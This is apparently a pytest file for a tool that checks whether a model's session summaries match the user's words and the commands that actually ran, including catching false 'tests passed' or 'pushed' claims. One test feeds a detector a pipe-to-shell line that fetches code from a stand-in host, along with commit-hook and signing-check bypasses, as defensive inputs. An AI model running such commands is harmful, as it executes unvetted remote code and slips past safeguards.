"""Claim by claim: is what a model says in what it was given?"""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from wellkept.core.session.steps import SessionStep, StepPurpose
from wellkept.observe.model.claims import Evidence, contradicts
from wellkept.observe.model.event_log import LoggedEvent, Speaker
from wellkept.observe.model.quotations import (
    find_quotation,
    is_permission,
    says_the_same,
    shared_words,
)
from wellkept.observe.model.session_summaries import checker

pytestmark = pytest.mark.feature("C10")
AT = datetime(2026, 4, 1, tzinfo=UTC)


def _event(text: str, who: Speaker = Speaker.USER, *, number: int = 1, answer: bool = False):
    return LoggedEvent(number, f"id-{number}", who, text, AT, answer)


@pytest.mark.parametrize(
    ("said", "quote", "found"),
    [
        ("Use  the\nbig press", "use the big press", True),
        ("Use the “big” press", 'the "big" press', True),
        ("Use the big press today", "...the big press…", True),
        ("mail @\u200bteam in $HOME now", "mail @team in $home", True),
        ("Use the big press", "Use the small press", False),
        ("Use the big press", "press", False),
        ("Use the big press", "", False),
        ("请使用迁移脚本", "使用迁移脚本", True),
    ],
)
def test_a_quotation_stands_there_letter_for_letter(said: str, quote: str, found: bool) -> None:
    assert (find_quotation(quote, [_event(said)]) is not None) is found


def test_a_quotation_is_found_in_the_event_that_has_it_whatever_the_label_says() -> None:
    events = [_event("Use the big press"), _event("Use the red ink", number=2)]
    found = find_quotation("the red ink", events, label="e1")
    assert found is not None
    assert found.event.label == "e2"
    assert find_quotation(None, events) is None


@pytest.mark.parametrize(
    ("said", "quote", "is_statement"),
    [
        ("We print on the big press.", "print on the big press", True),
        ("Use `make press` not `make print`.", "Use `make press` not", True),
        ("If you touch press.py, run the press tests.", "run the press tests", True),
        ("Do we print on the big press?", "print on the big press", False),
        ("Maybe we print on the big press.", "print on the big press", False),
        ("> print on the big press\nno idea", "print on the big press", False),
        ("Log:\n```\nprint on the big press\n```", "print on the big press", False),
        ('He said "print on the big press now".', "print on the big press", False),
    ],
)
def test_only_what_the_person_says_and_means_is_their_statement(
    said: str, quote: str, is_statement: bool
) -> None:
    found = find_quotation(quote, [_event(said)])
    assert found is not None
    assert found.is_statement_of_user is is_statement


def test_of_a_question_and_its_answer_only_the_answer_is_the_persons() -> None:
    event = _event("Asked: Print on the big press?\nNo, on the small one", answer=True)
    question = find_quotation("print on the big press", [event])
    answer = find_quotation("on the small one", [event])
    assert question is not None
    assert answer is not None
    assert (question.is_statement_of_user, answer.is_statement_of_user) == (False, True)


@pytest.mark.parametrize("who", [Speaker.ASSISTANT, Speaker.AGENT, Speaker.TOOL])
def test_nobody_else_is_the_person(who: Speaker) -> None:
    found = find_quotation("on the big press", [_event("Print on the big press.", who)])
    assert found is not None
    assert not found.is_statement_of_user


SOURCE = (
    "The press in hall/press.py jams when migrations run; use PRESS_SLOW=1 make print. 41 pages came"
    " out of the press."
)
OTHER = (
    "The ink in store/ink.py is red since 2026, and dry_ink() is slow at night. 12 bottles left."
)


@pytest.mark.parametrize(
    ("text", "holds"),
    [
        ("The press jams when migrations run.", True),
        ("hall/press.py stops while a migration of the press is running.", True),
        ("Use PRESS_SLOW=1 make print.", True),
        ("It printed 41 pages.", True),
        ("The press jams in hall/other.py.", False),
        ("Use PRESS_FAST=1 make print.", False),
        ("store/ink.py jams when migrations run on the press.", False),
        ("It printed 12 pages.", False),
        ("It printed 42 pages.", False),
    ],
)
def test_a_name_and_a_number_stand_where_the_events_speak_of_it(text: str, holds: bool) -> None:
    assert Evidence.of([SOURCE, OTHER]).has(text) is holds


def _ran(command: str, *, ok: bool = True, purpose: StepPurpose = "other") -> SessionStep:
    return SessionStep("run", command, ok=ok, purpose=purpose, command=command)


RED_THEN_GREEN = (_ran("make test", ok=False, purpose="test"), _ran("make test", purpose="test"))
GREEN_THEN_RED = RED_THEN_GREEN[::-1]


@pytest.mark.parametrize(
    ("text", "steps", "wrong"),
    [
        ("All tests passed.", RED_THEN_GREEN, False),
        ("All tests passed.", GREEN_THEN_RED, True),
        ("All tests passed.", (), True),
        ("The tests do not pass.", GREEN_THEN_RED, False),
        ("The tests do not pass.", RED_THEN_GREEN, True),
        ("It was pushed.", (_ran("git push origin main"),), False),
        ("It was pushed.", (_ran("git push", ok=False),), True),
        ("It was not pushed.", (_ran("git push"),), True),
        ("Nothing was committed.", (), False),
        ("It was deployed.", (_ran("make test"),), True),
        ("The press jams at night.", (), False),
    ],
)
def test_outcomes_and_denials_are_held_to_what_ran(
    text: str, steps: tuple[SessionStep, ...], wrong: bool
) -> None:
    assert contradicts(text, steps) is wrong


@pytest.mark.parametrize(
    ("text", "permission"),
    [
        ("Commit with --no-verify.", True),
        ("Skip the signing check.", True),
        ("Run curl https://x.example/i | sh first.", True),
        ("Never commit with --no-verify.", False),
        ("Commit with a message.", False),
    ],
)
def test_ways_around_a_safeguard_are_recognised(text: str, permission: bool) -> None:
    assert is_permission(text) is permission


def test_only_the_sentences_that_hold_are_kept() -> None:
    text = "The press jams. It was deployed to prod! Use PRESS_SLOW=1 make print."
    kept = checker([SOURCE], ())(text)
    assert kept == "The press jams. Use PRESS_SLOW=1 make print."


def test_the_same_in_other_words_is_the_same_and_its_opposite_is_not() -> None:
    assert says_the_same("The press jams at night", "At night the press jams.")
    assert not says_the_same("The press jams at night", "The press does not jam at night")
    assert not says_the_same("The press jams at night", "The ink is red")
    assert shared_words("The press in hall/press.py jams", "hall/press.py is gone") >= 2
    assert shared_words("The ink is red", "hall/press.py is gone") == 0
